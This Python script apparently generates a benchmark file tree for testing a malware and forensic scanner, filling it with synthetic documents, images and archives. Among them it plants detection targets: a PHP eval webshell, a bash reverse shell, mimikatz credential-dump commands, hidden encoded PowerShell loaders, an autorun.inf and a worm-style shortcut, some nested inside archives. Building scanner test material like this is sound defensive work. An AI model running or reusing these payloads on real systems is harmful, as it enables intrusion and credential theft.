#!/usr/bin/env python3
"""Generates the benchmark workload's file tree (content only; make-workload.sh builds the images).

    workload_gen.py full|small SRCDIR MANIFEST

Everything is derived from fixed seeds (random.Random with string seeds is stable across Python
versions and PYTHONHASHSEED), so the same host produces the same bytes every time. The only input
taken from the host is the set of ELF binaries in /usr/bin (chosen by sorted name), so another
Debian 12 host with other packages installed gets other ELF files.

Writes SRCDIR/... and MANIFEST, a TSV: path, size, sha256, kind, deleted (0/1), note.
"deleted" files are written like the others; make-workload.sh deletes them inside the images.
"""

import gzip
import hashlib
import io
import json
import os
import random
import struct
import sys
import tarfile
import zipfile
import zlib

SEED = "borderscan-bench-v1"
FIXED_MTIME = 1672531200  # 2023-01-01T00:00:00Z; files get mtimes spread over 2023 from it
ZIP_DATE = (2023, 6, 1, 12, 0, 0)

# The EICAR test string, ROT13-encoded so that this script is not itself an EICAR hit.
EICAR_ROT13 = r"K5B!C%@NC[4\CMK54(C^)7PP)7}$RVPNE-FGNAQNEQ-NAGVIVEHF-GRFG-SVYR!$U+U*"
EICAR_MD5 = "44d88612fea8a8f36de82e1278abb02f"


def rot13(s):
    out = []
    for ch in s:
        if "a" <= ch <= "z":
            out.append(chr((ord(ch) - 97 + 13) % 26 + 97))
        elif "A" <= ch <= "Z":
            out.append(chr((ord(ch) - 65 + 13) % 26 + 65))
        else:
            out.append(ch)
    return "".join(out)


EICAR = rot13(EICAR_ROT13).encode("ascii")
assert hashlib.md5(EICAR).hexdigest() == EICAR_MD5, "EICAR literal damaged"

# ----------------------------------------------------------------------------------------------
# Scales. "full" gives ~3 000 files and ~800 MB of content (for a 1 GiB image), "small" the same
# mix scaled down (~330 files, ~35 MB, for a 50 MiB image), "large" four times "full" (~12 000
# files, ~3.2 GB, for a 4 GiB image: the memory-flatness check).

SCALES = {
    "full": dict(txt=1100, csv=250, json=250, log=100, pdf=120, jpg=600, png=180,
                 dup_photos=160, dup_docs=40, elf=40, zip=40, targz=30, nested=6,
                 jpg_kb=(60, 1000), blobs_mb=[100, 64, 48, 32, 20], big_members_mb=[64], deleted=60),
    "large": dict(txt=4400, csv=1000, json=1000, log=400, pdf=480, jpg=2400, png=720,
                  dup_photos=640, dup_docs=160, elf=40, zip=160, targz=120, nested=24,
                  jpg_kb=(60, 1000), blobs_mb=[100, 64, 48, 32, 20] * 4, big_members_mb=[64] * 4,
                  deleted=240),
    "small": dict(txt=110, csv=25, json=25, log=10, pdf=12, jpg=60, png=18,
                  dup_photos=16, dup_docs=4, elf=8, zip=4, targz=3, nested=2,
                  jpg_kb=(40, 300), blobs_mb=[6, 3], big_members_mb=[33], deleted=8),
}

# Words both generators use (bench/report_gen.py too).
COMMON_WORDS = (
    "the of and to in is was for on that with as by at from this be have are or an which not "
    "report invoice customer delivery border station device card photo travel hotel meeting "
    "budget quarter summary project status update review draft final notes agenda minutes "
    "payment amount total balance account transfer reference number date time location "
    "shipment container cargo vessel port terminal customs declaration value weight origin "
    "destination contact phone email address street city country postal code office team "
    "manager engineer analyst support service contract agreement terms conditions schedule "
    "january february march april may june july august september october november december "
)

WORDS = (
    COMMON_WORDS +
    "monday tuesday wednesday thursday friday please thanks regards kind best hello dear "
    "attached document file folder backup archive copy version system network server client "
    "password username login access security policy audit compliance risk incident response "
    "Zürich München Genève Kraków São Paulo Málaga Ångström café naïve résumé façade"
).split()

FIRST = "Anna Ben Carla David Emma Felix Greta Hugo Ines Jonas Klara Luca Mila Noah Olga Paul".split()
LAST = "Meier Schmid Keller Weber Huber Schneider Müller Fischer Brunner Baumann Frei Gerber".split()
CITIES = "Basel Bern Chiasso Genève Kreuzlingen Lugano Schaffhausen St.Gallen Zürich".split()


class Tree:
    def __init__(self, root, manifest):
        self.root = root
        self.manifest = manifest
        self.rows = []
        self.paths = set()
        self.lower = set()
        self.mrng = random.Random(SEED + ":mtime")

    def add(self, rel, data, kind, note=""):
        rel = rel.lstrip("/")
        key = rel.lower()
        assert key not in self.lower, f"duplicate (case-insensitive) path {rel}"
        self.lower.add(key)
        self.paths.add(rel)
        full = os.path.join(self.root, rel)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as f:
            f.write(data)
        # FAT keeps mtimes with 2 s resolution: even seconds only.
        t = FIXED_MTIME + 2 * self.mrng.randrange(0, 365 * 43200)
        os.utime(full, (t, t))
        self.rows.append([rel, len(data), hashlib.sha256(data).hexdigest(), kind, 0, note])
        return rel

    def mark_deleted(self, rel):
        for row in self.rows:
            if row[0] == rel:
                row[4] = 1
                return
        raise KeyError(rel)

    def write_manifest(self):
        with open(self.manifest, "w", encoding="utf-8") as f:
            f.write("path\tsize\tsha256\tkind\tdeleted\tnote\n")
            for row in self.rows:
                f.write("\t".join(str(x) for x in row) + "\n")


# ----------------------------------------------------------------------------------------------
# Content generators


def text_words(rng, nbytes):
    out, size = [], 0
    line = []
    while size < nbytes:
        w = rng.choice(WORDS)
        line.append(w)
        size += len(w.encode()) + 1
        if len(line) >= rng.randint(8, 16):
            out.append(" ".join(line).capitalize() + ".")
            line = []
            if rng.random() < 0.15:
                out.append("")
    if line:
        out.append(" ".join(line) + ".")
    return ("\n".join(out) + "\n").encode("utf-8")


def make_csv(rng, rows):
    lines = ["id,date,name,city,amount,currency,reference"]
    for i in range(rows):
        lines.append("%d,2023-%02d-%02d,%s %s,%s,%d.%02d,%s,REF-%08X" % (
            i + 1, rng.randint(1, 12), rng.randint(1, 28), rng.choice(FIRST), rng.choice(LAST),
            rng.choice(CITIES), rng.randint(1, 99999), rng.randint(0, 99),
            rng.choice(["CHF", "EUR", "USD"]), rng.getrandbits(32)))
    return ("\n".join(lines) + "\n").encode("utf-8")


def make_json(rng, records):
    recs = []
    for i in range(records):
        recs.append({
            "id": i + 1,
            "name": "%s %s" % (rng.choice(FIRST), rng.choice(LAST)),
            "city": rng.choice(CITIES),
            "tags": rng.sample(WORDS[:60], rng.randint(1, 4)),
            "score": round(rng.random() * 100, 3),
            "active": rng.random() < 0.7,
            "note": " ".join(rng.choices(WORDS, k=rng.randint(3, 12))),
        })
    return json.dumps({"version": 1, "records": recs}, ensure_ascii=False, indent=1).encode()


def make_log(rng, lines):
    out = []
    hosts = ["gw01", "kiosk-3", "scan-a", "db2"]
    procs = ["sshd", "kernel", "cron", "nginx", "borderd", "systemd"]
    for i in range(lines):
        out.append("2023-%02d-%02dT%02d:%02d:%02dZ %s %s[%d]: %s" % (
            rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59),
            rng.randint(0, 59), rng.choice(hosts), rng.choice(procs), rng.randint(100, 65000),
            " ".join(rng.choices(WORDS, k=rng.randint(4, 14)))))
    return ("\n".join(out) + "\n").encode("utf-8")


def pdf_escape(s):
    return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def make_pdf(rng, pages):
    """A minimal valid PDF 1.4: Helvetica text pages, uncompressed content streams, exact xref."""
    objs = []  # object bodies, 1-based numbering
    objs.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    objs.append(None)  # pages, filled in below
    objs.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    kids = []
    for _ in range(pages):
        lines = []
        for j in range(rng.randint(20, 45)):
            txt = " ".join(rng.choices([w for w in WORDS if w.isascii()], k=rng.randint(6, 12)))
            lines.append("(%s) Tj 0 -14 Td" % pdf_escape(txt))
        content = ("BT /F1 10 Tf 50 780 Td\n" + "\n".join(lines) + "\nET\n").encode("latin-1")
        objs.append(b"<< /Length %d >>\nstream\n" % len(content) + content + b"endstream")
        content_no = len(objs)
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                    b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % content_no)
        kids.append(len(objs))
    objs[1] = b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % k for k in kids) + \
        b"] /Count %d >>" % len(kids)
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref))
    return out.getvalue()


def png_chunk(tag, data):
    return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))


def make_png(rng, w, h):
    """Valid RGB PNG: gradient rows mixed with noise rows (screenshot-like compressibility)."""
    raw = bytearray()
    base = rng.randrange(256)
    for y in range(h):
        raw.append(0)  # filter: none
        if rng.random() < 0.3:
            raw += rng.randbytes(w * 3)
        else:
            v = (base + y) & 0xFF
            raw += bytes((v, (v * 3) & 0xFF, (255 - v))) * w
    ihdr = struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) +
            png_chunk(b"IDAT", zlib.compress(bytes(raw), 6)) + png_chunk(b"IEND", b""))


class JpegMaker:
    """Baseline JPEGs that decode: 3 components, 1x1 sampling, every DC difference 0 and random
    AC coefficients coded with a small custom Huffman table. Each 8x8 block's code is a
    whole number of bytes, so an image is a concatenation of pre-coded blocks from a pool
    (fast in Python) and its size follows its dimensions like a real photo's."""

    DC_BITS = [0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0]  # standard luminance DC table
    DC_VALS = list(range(12))
    # custom AC table: (symbol, code length); Kraft sum < 1 so no all-ones code is used
    AC = [(0x00, 2), (0x01, 2), (0x02, 3), (0x03, 4), (0x11, 4), (0x12, 4), (0x21, 5),
          (0x04, 5), (0x05, 6), (0x31, 6), (0x06, 7)]

    def __init__(self, rng):
        self.ac_code = self._canonical(self.AC)
        self.dc0 = "00"  # DC category 0 in the standard table
        self.pool = [self._block(rng) for _ in range(1024)]
        self.header_tail = self._tables()

    @staticmethod
    def _canonical(pairs):
        codes, code, prev_len = {}, 0, 0
        for sym, ln in sorted(pairs, key=lambda p: p[1]):
            code <<= (ln - prev_len)
            codes[sym] = format(code, "0%db" % ln)
            code += 1
            prev_len = ln
        return codes

    def _block(self, rng):
        while True:
            bits = [self.dc0]
            pos = 1
            while pos < 64:
                if rng.random() < 0.06:
                    bits.append(self.ac_code[0x00])  # EOB
                    break
                options = [s for s in (0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x11, 0x12, 0x21, 0x31)
                           if pos + (s >> 4) <= 63]
                sym = rng.choice(options)
                size = sym & 0x0F
                bits.append(self.ac_code[sym])
                bits.append(format(rng.getrandbits(size), "0%db" % size))
                pos += (sym >> 4) + 1
            s = "".join(bits)
            if len(s) % 8 == 0:
                data = int(s, 2).to_bytes(len(s) // 8, "big")
                return data.replace(b"\xff", b"\xff\x00")

    def _tables(self):
        q = bytes([16] * 64)
        dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + q
        dc = b"\x00" + bytes(self.DC_BITS) + bytes(self.DC_VALS)
        counts = [0] * 16
        vals = []
        for sym, ln in sorted(self.AC, key=lambda p: p[1]):
            counts[ln - 1] += 1
            vals.append(sym)
        ac = b"\x10" + bytes(counts) + bytes(vals)
        dht = b"\xff\xc4" + struct.pack(">H", 2 + len(dc) + len(ac)) + dc + ac
        return dqt, dht

    def make(self, rng, w, h, comment):
        dqt, dht = self.header_tail
        app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00"
        com = b"\xff\xfe" + struct.pack(">H", 2 + len(comment)) + comment
        sof = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, h, w, 3) + \
            b"\x01\x11\x00\x02\x11\x00\x03\x11\x00"
        sos = b"\xff\xda" + struct.pack(">HB", 12, 3) + b"\x01\x00\x02\x00\x03\x00" + b"\x00\x3f\x00"
        nblocks = 3 * ((w + 7) // 8) * ((h + 7) // 8)
        scan = b"".join(rng.choices(self.pool, k=nblocks))
        return b"\xff\xd8" + app0 + com + dqt + sof + dht + sos + scan + b"\xff\xd9"


def zip_bytes(members, compress=True):
    """members: list of (name, bytes). Fixed timestamps, deterministic output."""
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, ZIP_DATE)
            zi.compress_type = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return bio.getvalue()


def targz_bytes(members):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = FIXED_MTIME
            ti.mode = 0o644
            ti.uname = ti.gname = "user"
            ti.uid = ti.gid = 1000
            t.addfile(ti, io.BytesIO(data))
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0, compresslevel=6) as g:
        g.write(raw.getvalue())
    return out.getvalue()


# ELF executables every Debian 12 host has (packages of priority "required": coreutils, grep,
# gzip, tar, findutils, sed, ...), so the set does not change when other packages are installed.
ELF_NAMES = sorted([
    "cat", "chmod", "chown", "cp", "date", "dd", "df", "dir", "du", "echo", "env", "expr", "find",
    "grep", "gzip", "head", "id", "ln", "ls", "mkdir", "mktemp", "mv", "od", "paste", "pr", "ptx",
    "readlink", "rm", "sed", "seq", "sort", "split", "stat", "tail", "tar", "tee", "touch", "tr",
    "uname", "uniq", "wc", "xargs",
])


def pick_elves(n):
    """n ELF executables from /usr/bin: the first n of ELF_NAMES spread evenly (sorted names)."""
    step = len(ELF_NAMES) / n
    out = []
    for name in [ELF_NAMES[int(i * step)] for i in range(n)]:
        with open(os.path.join("/usr/bin", name), "rb") as f:
            data = f.read()
        if data[:4] != b"\x7fELF":
            sys.exit("workload_gen: /usr/bin/%s is not an ELF file" % name)
        out.append((name, data))
    return out


def lnk_bytes():
    """A Windows shortcut that starts cmd.exe /c start a VBS script, minimised (worm style)."""
    hdr = bytearray(76)
    struct.pack_into("<I", hdr, 0, 0x4C)
    hdr[4:20] = bytes.fromhex("0114020000000000c000000000000046")
    struct.pack_into("<I", hdr, 20, 0x000000A0 | 0x4 | 0x20)  # HasName|HasArguments|IsUnicode...
    struct.pack_into("<I", hdr, 60, 7)  # ShowCommand SW_SHOWMINNOACTIVE

    def sd(s):
        return struct.pack("<H", len(s)) + s.encode("utf-16-le")
    return bytes(hdr) + sd("USB Drive") + sd("/c start wscript.exe //B .\\System\\update.vbs & "
                                             "explorer.exe .") + \
        sd("C:\\Windows\\System32\\cmd.exe") + b"\x00\x00\x00\x00"


# ----------------------------------------------------------------------------------------------


def main():
    scale, root, manifest = sys.argv[1], sys.argv[2], sys.argv[3]
    S = SCALES[scale]
    tree = Tree(root, manifest)
    R = lambda tag: random.Random("%s:%s" % (SEED, tag))  # noqa: E731

    docs = []    # (rel, data) of small documents, reused in archives and as duplicates
    photos = []  # (rel, data)

    # --- text, CSV, JSON, logs, PDF --------------------------------------------------------
    rng = R("text")
    folders = ["Documents/Notes", "Documents/Reports", "Documents/Letters", "Desktop",
               "Documents/Projects/Alpha", "Documents/Projects/Beta", "Downloads"]
    for i in range(S["txt"]):
        size = int(rng.lognormvariate(9.3, 1.0))  # median ~11 KB
        size = max(200, min(size, 400_000))
        name = "%s/%s_%04d.txt" % (rng.choice(folders), rng.choice(WORDS[15:80]), i)
        if i == 7:
            name = "Documents/Notes/R\u00e9union ann\u00e9e.txt"
        if i == 8:
            name = "Documents/Notes/\u041f\u0440\u0438\u0432\u0435\u0442 \u043c\u0438\u0440.txt"
        if i == 9:
            name = "Desktop/to do (copy).txt"
        data = text_words(rng, size)
        docs.append((tree.add(name, data, "text"), data))
    rng = R("csv")
    for i in range(S["csv"]):
        data = make_csv(rng, int(rng.lognormvariate(6.5, 1.0)) + 10)
        docs.append((tree.add("Documents/Data/export_%04d.csv" % i, data, "csv"), data))
    rng = R("json")
    for i in range(S["json"]):
        data = make_json(rng, int(rng.lognormvariate(4.0, 1.0)) + 1)
        docs.append((tree.add("Documents/Data/records_%04d.json" % i, data, "json"), data))
    rng = R("log")
    for i in range(S["log"]):
        data = make_log(rng, int(rng.lognormvariate(6.5, 1.0)) + 5)
        tree.add("logs/%s-%04d.log" % (rng.choice(["syslog", "auth", "app", "access"]), i), data, "log")
    rng = R("pdf")
    for i in range(S["pdf"]):
        data = make_pdf(rng, rng.randint(1, 12))
        docs.append((tree.add("Documents/Scans/scan_%04d.pdf" % i, data, "pdf"), data))

    # --- photos: JPEG (camera folders), PNG screenshots ---------------------------------------
    rng = R("jpeg")
    jm = JpegMaker(rng)
    lo, hi = S["jpg_kb"]
    for i in range(S["jpg"]):
        # ~6 bytes per 8x8 block and 3 blocks per MCU: pick dimensions for the target size
        target = int(rng.uniform(lo, hi) * 1024)
        mcus = max(1, target // 40)
        w = max(8, int((mcus * 4 / 3) ** 0.5) * 8)
        h = max(8, (mcus // max(1, w // 8)) * 8)
        folder = "DCIM/%dCANON" % (100 + i // 200)
        data = jm.make(rng, w, h, b"Canon EOS bench %d" % i)
        photos.append((tree.add("%s/IMG_%04d.JPG" % (folder, 1 + i), data, "jpeg"), data))
    rng = R("png")
    for i in range(S["png"]):
        w, h = rng.randint(32, 420), rng.randint(32, 300)
        data = make_png(rng, w, h)
        photos.append((tree.add("Pictures/Screenshots/Screenshot_%04d.png" % i, data, "png"), data))

    # --- duplicates: same content under several names (photo dumps, "copy of" documents) -----
    rng = R("dup")
    for i in range(S["dup_photos"]):
        src_rel, data = rng.choice(photos[:S["jpg"]])
        base = os.path.basename(src_rel)
        dest = rng.choice(["Backup/Photos 2023/%s" % base, "WhatsApp/Media/IMG-2023%04d-WA%04d.jpg",
                           "Pictures/Holiday/%s" % base])
        if "%" in dest:
            dest = dest % (rng.randint(101, 1231), i)
        if dest.lower() in tree.lower:
            dest = "Backup/Photos 2023/dup_%04d_%s" % (i, base)
        tree.add(dest, data, "jpeg", "duplicate of " + src_rel)
    for i in range(S["dup_docs"]):
        src_rel, data = rng.choice(docs)
        base, ext = os.path.splitext(os.path.basename(src_rel))
        tree.add("Backup/Documents/%s (copy %d)%s" % (base, i, ext), data,
                 "duplicate", "duplicate of " + src_rel)

    # --- ELF binaries, and executables named as images -----------------------------------------
    elves = pick_elves(S["elf"])
    for name, data in elves:
        tree.add("tools/bin/%s" % name, data, "elf", "/usr/bin/" + name)
    tree.add("DCIM/100CANON/IMG_9901.JPG", elves[0][1], "elf-as-image", "/usr/bin/" + elves[0][0])
    tree.add("Pictures/wallpaper.png", elves[1][1], "elf-as-image", "/usr/bin/" + elves[1][0])
    tree.add("Pictures/Holiday/beach.jpeg", elves[2][1], "elf-as-image", "/usr/bin/" + elves[2][0])

    # --- detection targets (shipped rules and the public set) ----------------------------------
    ps_enc = ("powershell.exe -NoProfile -WindowStyle Hidden -enc "
              "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\r\n")
    ps_iex = ("$p = [System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))\r\n"
              "Invoke-Expression $p\r\n")
    webshell = b"<?php eval($_POST[1]);?>  \n"
    mimi = (b"mimikatz # privilege::debug\nmimikatz # sekurlsa::logonpasswords\n"
            b"sekurlsa::wdigest\nkerberos::ptt\nlsadump::sam\n\"gentilkiwi\"\n")
    revsh = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
    targets = [
        ("autorun.inf", b"[autorun]\r\nopen=System\\setup.exe\r\nicon=drive.ico\r\n", "autorun"),
        ("USB Drive.lnk", lnk_bytes(), "lnk"),
        ("Downloads/eicar.com", EICAR, "eicar"),
        ("Downloads/eicar (1).com", EICAR, "eicar"),
        ("Downloads/old_eicar.com", EICAR, "eicar"),           # deleted below
        ("Documents/Scripts/update.ps1", ps_enc.encode(), "powershell"),
        ("Documents/Scripts/loader.ps1", ps_iex.encode(), "powershell"),
        ("Documents/Private/notes.txt.enc", b"Salted__" + R("enc").randbytes(8 + 4096), "openssl-enc"),
        ("Documents/Private/keys.age",
         b"age-encryption.org/v1\n-> X25519 " + b"A" * 43 + b"\n" + b"B" * 43 + b"\n--- " + b"C" * 43 +
         b"\n" + R("age").randbytes(2048), "age"),
        ("www/shell.php", webshell, "webshell"),
        ("www/old_shell.php", webshell, "webshell"),           # deleted below
        ("tools/notes/mimi.txt", mimi, "mimikatz"),
        ("tools/notes/rev.sh", revsh, "revshell"),
    ]
    for rel, data, kind in targets:
        tree.add(rel, data, kind)

    # --- archives: zip and tar.gz of documents, and nested zip > tar.gz > zip ------------------
    rng = R("archive")
    for i in range(S["zip"]):
        members = [(os.path.basename(r), d) for r, d in rng.sample(docs, rng.randint(5, 40))]
        members = list(dict(members).items())
        if i % 4 == 0:
            members.append(("photo.jpg", rng.choice(photos)[1]))
        if i == 1:
            members.append(("eicar.com", EICAR))  # stored in a zip: only a member scan finds it
        tree.add("Archive/docs_%03d.zip" % i, zip_bytes(members, compress=(i != 1)), "zip")
    for i in range(S["targz"]):
        members = [("export/%s" % os.path.basename(r), d) for r, d in rng.sample(docs, rng.randint(5, 30))]
        members = list(dict(members).items())
        if i == 0:
            members.append(("export/update.ps1", ps_enc.encode()))
        tree.add("Archive/export_%03d.tar.gz" % i, targz_bytes(members), "tar.gz")
    for i in range(S["nested"]):
        inner_members = [(os.path.basename(r), d) for r, d in rng.sample(docs, rng.randint(3, 10))]
        inner_members = list(dict(inner_members).items())
        inner_members.append(("bin/%s" % elves[i % len(elves)][0], elves[i % len(elves)][1]))
        if i == 0:
            inner_members += [("eicar.com", EICAR), ("run.ps1", ps_enc.encode()),
                              ("shell.php", webshell)]
        inner = zip_bytes(inner_members)
        middle = targz_bytes([("stuff/inner.zip", inner),
                              ("stuff/readme.txt", text_words(rng, 2000))])
        outer = zip_bytes([("middle.tar.gz", middle), ("index.json", make_json(rng, 5))])
        tree.add("Archive/nested/bundle_%02d.zip" % i, outer, "nested-zip",
                 "zip > tar.gz > zip")
        if i == 1:  # two levels: tar.gz > zip
            tree.add("Archive/nested/pack_%02d.tar.gz" % i,
                     targz_bytes([("pack/inner.zip", inner)]), "nested-targz", "tar.gz > zip")

    # --- large random blobs (encrypted containers, raw backups) --------------------------------
    for i, mb in enumerate(S["blobs_mb"]):
        data = R("blob%d" % i).randbytes(mb * 1024 * 1024)
        tree.add("Backup/raw/blob_%02d_%dMB.bin" % (i, mb), data, "blob")
        del data

    # --- phone backups: zips whose video member is larger than the scanner holds in memory -----
    # (limits.member_memory_bytes, 32 MiB), so it is streamed once through every classifier.
    for i, mb in enumerate(S["big_members_mb"]):
        video = R("bigmember%d" % i).randbytes(mb * 1024 * 1024)
        members = [("DCIM/VID_%04d.dat" % (i + 1), video), ("backup.json", make_json(R("bigjson%d" % i), 5))]
        tree.add("Backup/phone/backup_%02d.zip" % i, zip_bytes(members), "zip-big",
                 "a %d MiB member" % mb)
        del video, members

    # --- deletions: the fixed targets plus a seeded sample of ordinary files -------------------
    rng = R("delete")
    fixed = ["Downloads/old_eicar.com", "www/old_shell.php"]
    pool = sorted(r[0] for r in tree.rows
                  if r[3] in ("text", "csv", "json", "jpeg", "png", "pdf", "zip", "log")
                  and r[0] not in fixed)
    for rel in fixed + rng.sample(pool, S["deleted"] - len(fixed)):
        tree.mark_deleted(rel)

    tree.write_manifest()
    # directories: a fixed time too (mcopy and mke2fs -d copy it), deepest first
    for dirpath, _, _ in sorted(os.walk(root), key=lambda w: -w[0].count(os.sep)):
        os.utime(dirpath, (FIXED_MTIME, FIXED_MTIME))


if __name__ == "__main__":
    main()
